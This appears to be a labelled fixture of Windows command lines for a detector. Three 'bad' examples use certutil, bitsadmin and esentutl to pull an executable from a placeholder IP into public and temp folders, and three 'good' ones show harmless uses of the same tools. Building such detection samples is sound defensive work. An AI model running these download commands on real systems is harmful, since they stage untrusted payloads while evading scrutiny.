:: bad: a cache for addresses
certutil.exe -urlcache -split -f http://203.0.113.9/h.exe C:\Users\Public\h.exe
:: bad: a transfer in the background
bitsadmin /transfer j /download /priority high http://203.0.113.9/h.exe C:\temp\h.exe
:: bad: from a share of somebody
esentutl /y \\203.0.113.9\s\h.exe /d C:\temp\h.exe /o
:: good: nearly: a digest
certutil -hashfile setup.exe SHA256
:: good: nearly: which transfers there are
bitsadmin /list
:: good: an archive of this machine
expand C:\temp\a.cab -F:* C:\temp\a
